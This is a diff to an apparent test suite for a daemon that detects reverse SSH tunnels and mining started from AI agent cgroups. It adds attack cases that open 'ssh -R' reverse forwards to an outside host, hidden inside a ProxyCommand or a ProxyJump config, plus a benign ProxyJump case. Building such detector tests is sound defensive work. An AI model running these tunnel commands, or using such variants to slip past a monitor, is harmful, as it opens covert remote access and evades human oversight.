@@ -2,7 +2,7 @@
 
 Each is a bash script run inside an agent cgroup of its own, with $H the outside host
 (198.51.100.2: sshd, a fake stratum pool on 3333), $SSH the client options and key for
-it, $W a working directory, $GPU a fake NVIDIA node, $INTERNAL the first three octets of
+it ($KEY the key alone), $W a working directory, $GPU a fake NVIDIA node, $INTERNAL the first three octets of
 the internal network (198.51.100.128/25 to this daemon), and `tool NAME` that makes a
 harmless script called NAME in $W/bin (no real tunnel or mining software is ever run:
 names and arguments are what the rules read). An attack names the rules that may catch it
@@ -77,6 +77,14 @@ ATTACKS = [
        "python3 -c \"import os, shlex, threading; threading.Thread(target=os.execv, args=('/usr/bin/ssh', "
        "['ssh', *shlex.split(os.environ['SSH']), '-N', '-R', '2414:127.0.0.1:22', 'root@' + os.environ['H']])).start()"
        "\"", REVERSE_SSH, reverse_port=2414, cut=True),
+    _a("ssh -R inside a ProxyCommand", "tunnel",
+       "ssh $SSH -o \"ProxyCommand=ssh $SSH -R 2415:127.0.0.1:22 -W %h:%p root@$H\" -N root@$H",
+       REVERSE_SSH, reverse_port=2415, cut=True),
+    _a("ssh -R through a ProxyJump", "tunnel",
+       "printf \"Host *\\n IdentityFile $KEY\\n StrictHostKeyChecking no\\n UserKnownHostsFile /dev/null\\n "
+       "BatchMode yes\\nHost jump\\n HostName $H\\n\" > $W/cfg && ssh -F $W/cfg -J root@jump -N -R 2416:127.0.0.1:22 "
+       "root@$H", REVERSE_SSH,
+       reverse_port=2416, cut=True),
     _a("ssh -w tun device", "tunnel", "ssh $SSH -w any:any -N root@$H", ("SSH tun device tunnel",), cut=True),
     _a("ControlMaster forward added later", "tunnel",
        "ssh $SSH -S $W/ctl -O forward -R 2412:127.0.0.1:22 root@$H", REVERSE_SSH, reverse_port=2412, cut=True),
@@ -183,6 +191,9 @@ BENIGN = [
        "&& git config user.name a && echo y > g && git add g && git commit -qm two && "
        "GIT_SSH_COMMAND=\"ssh $SSH\" git push -q origin HEAD"),
     _b("ssh runs a command", "ssh $SSH root@$H uname -r"),
+    _b("ssh through a ProxyJump", "printf \"Host *\\n IdentityFile $KEY\\n StrictHostKeyChecking no\\n "
+       "UserKnownHostsFile /dev/null\\n BatchMode yes\\nHost jump\\n HostName $H\\n\" > $W/cfg && "
+       "ssh -F $W/cfg -J root@jump root@$H true"),
     _b("ssh with a local forward", "ssh $SSH -L 18080:127.0.0.1:22 root@$H true"),
     _b("ssh with a dynamic forward", "ssh $SSH -D 18081 root@$H true"),
     _b("ssh whose remote command has -R", "ssh $SSH root@$H ls -R /proc/self/fd >/dev/null"),
